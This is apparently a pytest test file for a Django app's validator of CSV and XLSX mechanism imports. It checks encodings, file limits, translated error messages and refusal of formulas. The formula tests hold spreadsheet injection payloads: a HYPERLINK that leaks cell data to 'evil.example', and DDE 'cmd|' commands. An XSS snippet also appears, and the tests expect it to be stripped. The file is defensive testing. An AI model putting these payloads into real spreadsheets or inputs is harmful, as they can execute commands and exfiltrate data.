"""Reading and checking an import file: every kind of bad input gets a clear answer.

These call :func:`sauti.mechanisms.imports.validate_upload` directly, as the
upload view does; the views and the writing are tested in the other
``test_import_*`` modules. Nothing here may write a mechanism.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from sauti.mechanisms import imports
from sauti.mechanisms.models import Mechanism

HEADER = ["name", "country", "level", "kind"]


def good_row(number: int = 1, **overrides: str) -> dict[str, str]:
    row = {
        "name": f"Kisumu County Health Forum {number}",
        "country": "KE",
        "level": "municipal",
        "kind": "forum",
    }
    row.update(overrides)
    return row


def csv_bytes(rows, header=None, *, delimiter=",", encoding="utf-8") -> bytes:
    header = header or list(rows[0]) if rows else (header or HEADER)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(key, "") for key in header] if isinstance(row, dict) else row)
    return buffer.getvalue().encode(encoding)


def csv_file(rows, header=None, *, name="mechanisms.csv", **kwargs) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, csv_bytes(rows, header, **kwargs), content_type="text/csv")


def xlsx_bytes(rows, header=None) -> bytes:
    header = header or list(rows[0])
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append([row.get(key) for key in header] if isinstance(row, dict) else row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_file(rows, header=None, *, name="mechanisms.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, xlsx_bytes(rows, header))


def check(upload, language="en") -> imports.ValidationResult:
    return imports.validate_upload(upload, default_language=language)


def messages(result) -> list[str]:
    return [str(problem) for problem in result.problems]


@pytest.fixture(autouse=True)
def _nothing_written(db):
    yield
    assert not Mechanism.objects.exists()


# --- Encodings and separators ----------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-8", ","), ("utf-8-sig", ","), ("cp1252", ";"), ("latin-1", ";"), ("utf-16", "\t")],
)
def test_encodings_and_separators_are_recognised(encoding, delimiter):
    rows = [good_row(1, name="Comité de santé de Thiès", country="SN", level="district")]
    result = check(csv_file(rows, encoding=encoding, delimiter=delimiter))
    assert messages(result) == []
    assert result.rows[0]["name"] == "Comité de santé de Thiès"
    assert result.rows[0]["country"] == "SN"


def test_a_byte_order_mark_does_not_hide_the_first_column():
    data = "\ufeffname;country;level;kind\nConselho Municipal de Saúde;Brasil;municipal;council\n"
    result = check(SimpleUploadedFile("m.csv", data.encode("utf-8")))
    assert messages(result) == []
    assert result.rows == [
        {
            "row": 2,
            "name": "Conselho Municipal de Saúde",
            "country": "BR",
            "level": "municipal",
            "kind": "council",
            "original_language": "en",
        }
    ]


# --- Refused files ---------------------------------------------------------------


def test_a_pdf_renamed_csv_is_refused():
    upload = SimpleUploadedFile("mechanisms.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>")
    assert messages(check(upload)) == [
        "This file is not a CSV or XLSX spreadsheet. Save your table as CSV or as an Excel "
        "workbook (.xlsx) and upload it again."
    ]


def test_a_binary_file_is_refused():
    upload = SimpleUploadedFile("mechanisms.csv", bytes(range(256)) * 20)
    assert "not a CSV or XLSX" in messages(check(upload))[0]


def test_an_old_xls_file_is_told_to_save_as_xlsx():
    upload = SimpleUploadedFile("mechanisms.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    assert ".xlsx" in messages(check(upload))[0]


def test_a_zip_that_is_no_workbook_is_refused():
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hello")
    upload = SimpleUploadedFile("mechanisms.xlsx", buffer.getvalue())
    assert "not a CSV or XLSX" in messages(check(upload))[0]


@pytest.mark.parametrize("content", [b"", b"   \n\n", b"\xef\xbb\xbf"])
def test_an_empty_file_is_refused(content):
    assert messages(check(SimpleUploadedFile("m.csv", content))) == ["The file is empty."]


def test_a_header_without_rows_is_refused():
    upload = SimpleUploadedFile("m.csv", b"name,country,level,kind\n")
    assert messages(check(upload)) == [
        "The file has column names but no mechanisms. Add one row per mechanism."
    ]


def test_missing_required_columns_are_named_in_one_error():
    result = check(csv_file([{"name": "Forum", "country": "KE"}]))
    assert messages(result) == [
        "Required columns are missing: “Level” (level), “Kind” (kind). The first row must hold "
        "the column names; download the template to see them."
    ]


def test_a_file_over_the_size_limit_is_refused_before_it_is_read():
    class Huge(SimpleUploadedFile):
        def read(self, *args):
            raise AssertionError("a refused file must not be read")

    upload = Huge("big.csv", b"name")
    upload.size = 30 * 1024 * 1024
    assert messages(check(upload)) == [
        "The file is 30.0\xa0MB; the limit is 10.0\xa0MB. Split it into smaller files."
    ]


def test_more_rows_than_the_limit_are_refused_naming_the_limit():
    rows = [good_row(n) for n in range(50_000)]
    result = check(csv_file(rows))
    assert result.rows == []
    assert messages(result) == [
        "The file has too many rows: one import takes at most 20,000 mechanisms. "
        "Split it into several files and import them one after another."
    ]


def test_the_row_limit_itself_is_accepted(monkeypatch):
    monkeypatch.setattr(imports, "MAX_ROWS", 30)
    assert len(check(csv_file([good_row(n) for n in range(30)])).rows) == 30
    assert check(csv_file([good_row(n) for n in range(31)])).rows == []


def test_two_columns_for_one_field_are_refused():
    upload = SimpleUploadedFile("m.csv", b"name,country,Pays,level,kind\n")
    assert messages(check(upload)) == [
        "The columns “country” and “Pays” are the same field; keep one."
    ]


# --- Formulas --------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=1+1",
        "+SUM(A1:A3)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "=cmd|' /C notepad'!'A1'",
    ],
)
def test_a_formula_in_a_csv_cell_is_refused(cell):
    result = check(csv_file([good_row(1), good_row(2, name=cell)]))
    assert result.rows == []
    assert messages(result) == ["Row 3, column name: formulas are not accepted"]


@pytest.mark.parametrize("text", ["- a list item", "+254 700 000 000", "@health_ke", "-"])
def test_text_that_only_starts_with_a_sign_is_no_formula(text):
    result = check(csv_file([good_row(1, subnational_area=text)]))
    assert messages(result) == []
    assert result.rows[0]["subnational_area"] == text


def test_a_formula_cell_in_a_workbook_is_refused():
    rows = [good_row(1), good_row(2, host_institution='=HYPERLINK("http://x.example","x")')]
    result = check(xlsx_file(rows, [*HEADER, "host_institution"]))
    assert messages(result) == ["Row 3, column host_institution: formulas are not accepted"]


def test_the_quote_an_export_puts_before_a_sign_is_taken_off():
    result = check(csv_file([good_row(1, subnational_area="'- Nyanza")]))
    assert result.rows[0]["subnational_area"] == "- Nyanza"


def test_a_quoted_formula_stays_quoted_text():
    result = check(csv_file([good_row(1, host_institution="'=SUM(A1:A9)")]))
    assert result.rows[0]["host_institution"] == "'=SUM(A1:A9)"


# --- Row by row ------------------------------------------------------------------


def test_each_bad_cell_is_reported_with_row_column_and_reason():
    rows = [
        good_row(1),
        good_row(2, country="Atlantis"),
        good_row(3, level="galactic"),
        good_row(4, name=""),
        good_row(5, year_established="1492"),
        good_row(6, last_meeting="31/03/2024"),
        good_row(7, has_budget="perhaps"),
        good_row(8, constituencies="women;dragons"),
        good_row(9, source_url="not a link", source_title="Report"),
    ]
    header = [*HEADER, "year_established", "last_meeting", "has_budget", "constituencies"]
    header += ["source_title", "source_url"]
    result = check(csv_file(rows, header))
    assert result.rows == []
    assert messages(result) == [
        "Row 3, column country: unknown country “Atlantis”",
        "Row 4, column level: unknown value “galactic”; use one of: national, regional, "
        "district, municipal, facility, community",
        "Row 5, column name: a value is required",
        "Row 6, column year_established: “1492” is not a whole number from 1800 to 2100",
        "Row 7, column last_meeting: “31/03/2024” is not a date written as YEAR-MONTH-DAY "
        "(e.g. 2024-03-31)",
        "Row 8, column has_budget: “perhaps” is not yes or no; leave the cell empty if it is "
        "not known",
        "Row 9, column constituencies: unknown constituency “dragons”; use codes separated by "
        "“;”: women, youth, hiv, key_populations, disability, indigenous, rural, migrants, "
        "older, health_workers",
        "Row 10, column source_url: “not a link” is not a web address",
    ]


def test_row_numbers_count_as_a_spreadsheet_does_with_blank_lines_and_line_breaks():
    data = (
        "name,country,level,kind,description\n"
        'First,KE,district,committee,"two\nlines"\n'
        "\n"
        "Second,Atlantis,district,committee,\n"
    )
    result = check(SimpleUploadedFile("m.csv", data.encode()))
    assert messages(result) == ["Row 4, column country: unknown country “Atlantis”"]


def test_too_long_text_is_refused():
    result = check(csv_file([good_row(1, name="x" * 201)]))
    assert messages(result) == ["Row 2, column name: too long: 201 characters, at most 200"]


def test_html_is_stripped_from_text():
    rows = [
        good_row(
            1,
            name="<b>Kisumu</b> Forum<script>alert(1)</script>",
            description="<p>Meets <i>monthly</i>.</p>",
        )
    ]
    result = check(csv_file(rows, [*HEADER, "description"]))
    assert result.rows[0]["name"] == "Kisumu Forum"
    assert result.rows[0]["description"] == "Meets monthly."


def test_a_name_that_is_only_markup_counts_as_empty():
    result = check(csv_file([good_row(1, name="<img src=x>")]))
    assert messages(result) == ["Row 2, column name: a value is required"]


def test_errors_are_written_in_the_readers_language(catalogue):
    from django.utils import translation

    catalogue(
        "fr",
        {
            "Row %(row)s, column %(column)s: %(reason)s": (
                "Ligne %(row)s, colonne %(column)s : %(reason)s"
            ),
            "unknown country “%(value)s”": "pays inconnu « %(value)s »",
        },
    )
    with translation.override("fr"):
        result = check(csv_file([good_row(1, country="Atlantide")]))
        assert messages(result) == ["Ligne 2, colonne country : pays inconnu « Atlantide »"]


# --- What each column accepts -----------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("yes", True),
        ("No", False),
        ("TRUE", True),
        ("0", False),
        ("oui", True),
        ("non", False),
        ("sí", True),
        ("sim", True),
        ("não", False),
        ("نعم", True),
        ("لا", False),
        ("да", True),
        ("нет", False),
        ("是", True),
        ("否", False),
        ("", None),
        ("unknown", None),
    ],
)
def test_yes_and_no_in_every_language(cell, expected):
    result = check(csv_file([good_row(1, has_budget=cell)], [*HEADER, "has_budget"]))
    assert messages(result) == []
    assert result.rows[0].get("has_budget") is expected


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("KE", "KE"), ("ken", "KE"), ("Kenya", "KE"), ("Brazil", "BR"), ("Côte d’Ivoire", "CI")],
)
def test_countries_by_code_or_english_name(cell, expected):
    assert check(csv_file([good_row(1, country=cell)])).rows[0]["country"] == expected


def test_countries_by_name_in_another_language():
    assert check(csv_file([good_row(1, country="Sénégal")])).rows[0]["country"] == "SN"
    assert check(csv_file([good_row(1, country="Бразилия")])).rows[0]["country"] == "BR"


def test_choices_by_code_or_label():
    rows = [
        good_row(1, kind="council", level="National"),
        good_row(2, kind="Health council", level="health facility"),
    ]
    result = check(csv_file(rows))
    assert [(r["kind"], r["level"]) for r in result.rows] == [
        ("council", "national"),
        ("council", "facility"),
    ]


def test_choice_labels_in_french_are_understood(catalogue):
    catalogue("fr", {"Health council": "Conseil de santé", "District": "District sanitaire"})
    result = check(csv_file([good_row(1, kind="Conseil de santé", level="district sanitaire")]))
    assert (result.rows[0]["kind"], result.rows[0]["level"]) == ("council", "district")


def test_headers_in_french_are_understood(catalogue):
    catalogue(
        "fr",
        {
            "name": "nom",
            "country": "pays",
            "level": "niveau",
            "kind": "type",
            "dedicated budget": "budget propre",
            "language of the record": "langue de la fiche",
        },
    )
    data = (
        "Nom;Pays;Niveau;Type;Budget propre;Langue de la fiche\n"
        "Comité régional de santé;Sénégal;regional;committee;oui;fr\n"
    )
    result = check(SimpleUploadedFile("m.csv", data.encode("cp1252")))
    assert messages(result) == []
    assert result.rows[0] == {
        "row": 2,
        "name": "Comité régional de santé",
        "country": "SN",
        "level": "regional",
        "kind": "committee",
        "has_budget": True,
        "original_language": "fr",
    }


def test_numbers_dates_and_constituencies():
    rows = [
        good_row(
            1,
            year_established="1994",
            seats_community="12",
            last_meeting="2025-02-14",
            constituencies="women; Persons with disabilities;youth",
        )
    ]
    header = [*HEADER, "year_established", "seats_community", "last_meeting", "constituencies"]
    row = check(csv_file(rows, header)).rows[0]
    assert row["year_established"] == 1994
    assert row["seats_community"] == 12
    assert row["last_meeting"] == "2025-02-14"
    assert row["constituencies"] == ["women", "disability", "youth"]


def test_typed_workbook_cells_are_understood():
    import datetime

    header = [*HEADER, "year_established", "last_meeting", "has_budget", "seats_government"]
    rows = [["Forum", "KE", "district", "forum", 2001, datetime.date(2024, 5, 1), True, 4.0]]
    row = check(xlsx_file(rows, header)).rows[0]
    assert row["year_established"] == 2001
    assert row["last_meeting"] == "2024-05-01"
    assert row["has_budget"] is True
    assert row["seats_government"] == 4


def test_several_sources_one_per_line():
    rows = [
        good_row(
            1,
            source_title="County Health Act\nMinutes of March 2024",
            source_url="kenyalaw.org/act\nhttps://example.org/minutes",
        )
    ]
    result = check(csv_file(rows, [*HEADER, "source_title", "source_url"]))
    assert result.rows[0]["sources"] == [
        {"title": "County Health Act", "url": "https://kenyalaw.org/act"},
        {"title": "Minutes of March 2024", "url": "https://example.org/minutes"},
    ]


def test_a_source_link_needs_a_title():
    rows = [good_row(1, source_url="https://example.org")]
    result = check(csv_file(rows, [*HEADER, "source_title", "source_url"]))
    assert messages(result) == ["Row 2, column source_title: give the source a title"]


def test_the_language_chosen_on_the_page_fills_empty_cells():
    rows = [good_row(1), good_row(2, original_language="Português")]
    result = check(csv_file(rows, [*HEADER, "original_language"]), language="es")
    assert [r["original_language"] for r in result.rows] == ["es", "pt"]


def test_unknown_columns_are_ignored_with_a_warning_and_export_columns_silently():
    rows = [{**good_row(1), "id": "4", "updated_at": "2025-01-01", "favourite colour": "blue"}]
    result = check(csv_file(rows))
    assert result.ok
    assert imports.warnings(result.rows, result.ignored_columns)[0] == (
        "These columns are not recognised and will be ignored: “favourite colour”."
    )


def test_the_template_hint_row_and_comment_lines_are_skipped():
    data = (
        "# Exported from our shared sheet\n"
        "name,country,level,kind\n"
        "# hints,,,\n"
        "Forum,KE,district,forum\n"
    )
    result = check(SimpleUploadedFile("m.csv", data.encode()))
    assert [r["row"] for r in result.rows] == [4]


def test_rows_without_a_source_and_duplicates_are_warned_about():
    result = check(csv_file([good_row(1), good_row(1)]))
    assert result.ok
    assert imports.warnings(result.rows, result.ignored_columns) == [
        "2 rows have no source (rows 2, 3). A source lets others check each claim; you can "
        "add them later on each record.",
        "1 row has the same name and country as a mechanism already on Sauti or earlier in the "
        "file (row 3). Importing it creates a duplicate.",
    ]


def test_only_the_first_problems_are_kept_but_all_are_counted():
    rows = [good_row(n, country="Atlantis") for n in range(imports.MAX_ERRORS_KEPT + 50)]
    result = check(csv_file(rows))
    assert result.problem_count == imports.MAX_ERRORS_KEPT + 50
    assert len(result.problems) == imports.MAX_ERRORS_KEPT
    assert result.hidden_problem_count == 50


def test_every_template_column_maps_back_to_its_key_in_every_language():
    from django.conf import settings
    from django.utils import translation

    for language, _name in settings.LANGUAGES:
        with translation.override(language):
            mapping = imports.header_map()
            for column in imports.COLUMNS:
                label = imports.column_label(column, mapping)
                assert mapping[imports.normalise(label)] == column.key
